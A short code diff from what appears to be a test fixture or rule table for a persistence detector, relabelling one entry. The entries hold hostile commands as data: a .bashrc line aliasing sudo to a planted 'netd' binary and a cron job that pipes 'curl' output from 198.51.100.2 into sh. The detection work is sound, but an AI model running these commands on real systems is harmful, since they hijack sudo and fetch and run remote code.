@@ -185,7 +185,7 @@ _STARTING = {
     ),
     "PAM, made to run programs": Trace(_DONE, "mechanism-authentication", "pam_exec.so"),
     "a start file of a shell that replaces sudo": Trace(
-        f"echo \"alias sudo='{_SHARE}/netd'\" >/home/ops/.bashrc", "shell-start-odd", "/home/ops/.bashrc"
+        f"echo \"alias sudo='{_SHARE}/netd'\" >/home/ops/.bashrc", "mechanism-login", "/home/ops/.bashrc"
     ),
     "a job that fetches code": Trace(
         "echo '* * * * * curl -s http://198.51.100.2/x | sh' >/var/spool/cron/crontabs/nobody-here",
